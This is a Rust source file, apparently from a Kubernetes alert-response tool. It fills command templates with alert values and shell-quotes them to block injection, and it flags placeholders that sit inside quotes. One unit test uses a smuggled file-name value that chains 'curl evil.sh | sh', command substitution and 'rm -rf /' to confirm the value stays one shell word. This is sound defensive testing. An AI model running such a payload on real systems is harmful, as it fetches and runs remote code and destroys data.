//! Filling the placeholders of knowledge commands with an alert's values, shell-quoted.
//!
//! Values come from the watched workload (pod names, command lines, file
//! names), so every one is quoted as a single shell word: a value can never
//! become a command of its own.

use crate::crd::Subject;
use crate::falco::value_text;
use serde_json::{Map, Value};
use std::borrow::Cow;

/// The values a command template may use.
pub struct Values<'a> {
    pub subject: &'a Subject,
    pub node: Option<&'a str>,
    pub fields: &'a Map<String, Value>,
}

impl Values<'_> {
    fn lookup(&self, name: &str) -> Option<String> {
        let s = self.subject;
        match name {
            "namespace" => s.namespace.clone(),
            "pod" => s.pod.clone(),
            "container" => s.container.clone(),
            "image" => s.image.clone(),
            "node" => self.node.map(str::to_string),
            "workload_kind" => s
                .workload
                .as_ref()
                .filter(|w| w.kind != "Pod")
                .map(|w| w.kind.to_ascii_lowercase()),
            "workload_name" => s
                .workload
                .as_ref()
                .filter(|w| w.kind != "Pod")
                .map(|w| w.name.clone()),
            _ => name
                .strip_prefix("field:")
                .and_then(|f| self.fields.get(f))
                .and_then(value_text),
        }
    }
}

/// Fills every `{placeholder}` of `template`. `None` when one has no value for
/// this alert: a command with a hole in it is worse than no command.
pub fn fill(template: &str, values: &Values<'_>) -> Option<String> {
    let mut out = String::with_capacity(template.len() + 32);
    let mut rest = template;
    while let Some(start) = rest.find('{') {
        out.push_str(&rest[..start]);
        let after = &rest[start + 1..];
        let end = after.find('}')?;
        let value = values.lookup(&after[..end])?;
        out.push_str(&quote(&value));
        rest = &after[end + 1..];
    }
    out.push_str(rest);
    Some(out)
}

/// Quotes `value` as one shell word (POSIX sh). Control characters, which no
/// terminal shows faithfully, are replaced so a pasted command is what it looks like.
pub fn quote(value: &str) -> String {
    let visible: Cow<'_, str> = if value.chars().any(char::is_control) {
        Cow::Owned(
            value
                .chars()
                .map(|c| if c.is_control() { '\u{fffd}' } else { c })
                .collect(),
        )
    } else {
        Cow::Borrowed(value)
    };
    match shlex::try_quote(&visible) {
        Ok(q) => q.into_owned(),
        // Only a NUL byte is refused, and control characters are gone by now.
        Err(_) => "''".to_string(),
    }
}

/// Every placeholder name in a template, for checks of the knowledge files.
pub fn placeholders(template: &str) -> Vec<&str> {
    let mut names = Vec::new();
    let mut rest = template;
    while let Some(start) = rest.find('{') {
        let after = &rest[start + 1..];
        let Some(end) = after.find('}') else { break };
        names.push(&after[..end]);
        rest = &after[end + 1..];
    }
    names
}

/// True when a placeholder of the template stands inside shell quotes, where
/// quoting its value would not protect it. A command substitution `"$(...)"`
/// starts a fresh quoting context, as it does in the shell.
pub fn placeholder_inside_quotes(template: &str) -> bool {
    #[derive(Clone, Copy, PartialEq)]
    enum Ctx {
        Plain,
        Single,
        Double,
    }
    let mut stack = vec![Ctx::Plain];
    let chars: Vec<char> = template.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        let top = *stack.last().unwrap_or(&Ctx::Plain);
        match (top, c) {
            (Ctx::Plain | Ctx::Double, '\\') => i += 1,
            (Ctx::Plain | Ctx::Double, '$') if chars.get(i + 1) == Some(&'(') => {
                stack.push(Ctx::Plain);
                i += 1;
            }
            (Ctx::Plain, ')') if stack.len() > 1 => {
                stack.pop();
            }
            (Ctx::Plain, '\'') => stack.push(Ctx::Single),
            (Ctx::Plain, '"') => stack.push(Ctx::Double),
            (Ctx::Single, '\'') | (Ctx::Double, '"') => {
                stack.pop();
            }
            (Ctx::Single | Ctx::Double, '{') => return true,
            _ => {}
        }
        i += 1;
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::crd::WorkloadRef;
    use serde_json::json;

    fn subject() -> Subject {
        Subject {
            namespace: Some("shop".into()),
            pod: Some("web-7d9f8b6c5d-x2k4q".into()),
            container: Some("web".into()),
            workload: Some(WorkloadRef {
                kind: "Deployment".into(),
                name: "web".into(),
            }),
            ..Subject::default()
        }
    }

    #[test]
    fn plain_values_fill_in_unquoted() {
        let s = subject();
        let fields = Map::new();
        let v = Values {
            subject: &s,
            node: Some("worker-1"),
            fields: &fields,
        };
        assert_eq!(
            fill("kubectl -n {namespace} logs {pod} -c {container}", &v).as_deref(),
            Some("kubectl -n shop logs web-7d9f8b6c5d-x2k4q -c web")
        );
        assert_eq!(
            fill(
                "kubectl -n {namespace} rollout restart {workload_kind} {workload_name}",
                &v
            )
            .as_deref(),
            Some("kubectl -n shop rollout restart deployment web")
        );
    }

    #[test]
    fn hostile_values_stay_one_word() {
        let s = subject();
        let fields: Map<String, Value> = [(
            "fd.name".to_string(),
            json!("/tmp/x'; curl evil.sh | sh; echo '$(id)`id`\nrm -rf /"),
        )]
        .into_iter()
        .collect();
        let v = Values {
            subject: &s,
            node: None,
            fields: &fields,
        };
        let cmd = fill("ls -la {field:fd.name}", &v).unwrap();
        let words = shlex::split(&cmd).unwrap();
        assert_eq!(words.len(), 3, "{cmd}");
        assert!(words[2].starts_with("/tmp/x'; curl"), "{cmd}");
        assert!(!cmd.contains('\n'));
    }

    #[test]
    fn a_missing_value_drops_the_command() {
        let s = Subject::default();
        let fields = Map::new();
        let v = Values {
            subject: &s,
            node: None,
            fields: &fields,
        };
        assert_eq!(fill("kubectl -n {namespace} get pod {pod}", &v), None);
        assert_eq!(fill("kubectl cordon {node}", &v), None);
    }

    #[test]
    fn placeholders_inside_quotes_are_spotted() {
        assert!(placeholder_inside_quotes("sh -c 'cat {field:fd.name}'"));
        assert!(placeholder_inside_quotes("echo \"{pod}\""));
        assert!(!placeholder_inside_quotes("x='a'{field:gcp.user}'b'"));
        assert!(!placeholder_inside_quotes(
            "kubectl -n {namespace} get pod {pod}"
        ));
    }
}
